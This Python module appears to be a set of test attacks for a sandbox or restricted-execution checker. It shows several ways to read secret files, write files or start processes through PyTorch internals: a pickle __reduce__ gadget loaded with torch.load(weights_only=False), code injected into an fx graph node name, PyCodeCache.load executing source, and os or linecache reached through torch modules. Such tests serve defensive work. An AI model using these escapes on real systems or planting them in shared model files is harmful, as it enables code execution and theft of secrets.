"""Attacks through torch's functions that compile, load, package or download code and files by name."""

# These are attacks; the usual style rules do not apply.

from __future__ import annotations

from typing import Any

# Reading a file


def loads_a_pickle_with_torch(secret_file: str) -> object:
    """torch.load with weights_only=False of a pickle that the block makes"""
    import io

    import torch

    class Gadget:
        def __reduce__(self) -> object:
            return eval, (f"open({secret_file!r}).read()",)

    content = io.BytesIO()
    torch.save(Gadget(), content)
    content.seek(0)
    return torch.load(content, weights_only=False)


def evaluates_in_a_compiled_graph(secret_file: str) -> object:
    """torch.compile with a custom backend, which puts code into the name of a graph's node"""
    import torch

    contents: list[Any] = []

    def backend(compiled: Any, inputs: object) -> Any:
        graph = torch.fx.Graph()
        node = graph.placeholder("x")
        node.name = node.target = f"x=open({secret_file!r}).read()"
        graph.output(node)
        compiled.graph = graph
        contents.append(compiled.forward())
        return lambda *values: [value * 2 for value in values]

    def doubled(value: Any) -> Any:
        return value * 2

    torch.compile(doubled, backend=backend)(torch.ones(2))
    return contents


def evaluates_in_a_compiled_module(secret_file: str) -> object:
    """compile() of the attack's module, which is torch.compile by another name"""
    import torch

    contents: list[Any] = []

    def backend(compiled: Any, inputs: object) -> Any:
        kind = type(torch.nn.Module.forward)
        code = torch.nn.Module.compile.__code__
        contents.append(kind(code, {}).__builtins__["open"](secret_file).read())
        return compiled.forward

    class Doubling(torch.nn.Module):
        def forward(self, value: Any) -> Any:
            return value * 2

    module = Doubling()
    module.compile(backend=backend)
    module(torch.ones(2))
    return contents


def loads_source_with_inductor(secret_file: str) -> object:
    """torch._inductor's code cache, which runs the given source"""
    from torch._inductor.codecache import PyCodeCache

    return PyCodeCache.load(f"found = open({secret_file!r}).read()").found


def finds_os_in_dynamo(secret_file: str) -> object:
    """from torch._dynamo.utils import os"""
    from torch._dynamo.utils import os

    return os.read(os.open(secret_file, 0), 4096)


def reads_source_with_torch(secret_file: str) -> object:
    """torch.jit's source reader, with a function that claims to come from that file"""
    import torch

    made: dict[str, Any] = {}
    exec(compile("def told(): pass", secret_file, "exec"), made)
    return torch.jit.frontend.get_source_lines_and_file(made["told"])


def finds_linecache_in_torch_library(secret_file: str) -> object:
    """torch.library.inspect.linecache"""
    import torch.library

    return torch.library.inspect.linecache.getlines(secret_file)


# Writing a file


def writes_with_torch_jit(canary_folder: str) -> object:
    """torch.jit.save"""
    import torch

    traced = torch.jit.trace(torch.nn.Linear(1, 1), torch.ones(1))
    return torch.jit.save(traced, f"{canary_folder}/new")


def writes_with_torch_package(canary_folder: str) -> object:
    """torch.package"""
    import torch.package

    with torch.package.PackageExporter(f"{canary_folder}/new") as package:
        package.save_text("notes", "notes", "note")
    return True


def writes_with_a_store(canary_folder: str) -> object:
    """torch.distributed.FileStore"""
    import torch

    return torch.distributed.FileStore(f"{canary_folder}/new", 2).set("key", "value")


def writes_with_torch_hub(canary_folder: str, canary_file: str) -> object:
    """torch.hub.download_url_to_file of a file"""
    import torch

    return torch.hub.download_url_to_file(
        f"file://{canary_file}", f"{canary_folder}/new", progress=False
    )


def writes_an_extension(canary_folder: str) -> object:
    """torch.utils.cpp_extension.load_inline, which writes source and runs a compiler"""
    import torch.utils.cpp_extension

    return torch.utils.cpp_extension.load_inline(
        "attack", "int x;", extra_cflags=["--no-such-flag"], build_directory=canary_folder
    )


def writes_a_trace_of_the_compiler(canary_folder: str) -> object:
    """torch._inductor's writer of generated code"""
    from torch._inductor.codecache import write_atomic

    return write_atomic(f"{canary_folder}/new", "written")


# Starting a program


def asks_a_compiler(token: str) -> object:
    """torch._inductor's version query of a compiler, which can be any program"""
    from torch._inductor.cpp_builder import get_compiler_version_info

    answers = []
    for _ in token:
        get_compiler_version_info.cache_clear()  # so that each question starts a process
        answers.append(len(get_compiler_version_info("python3")))
    return answers
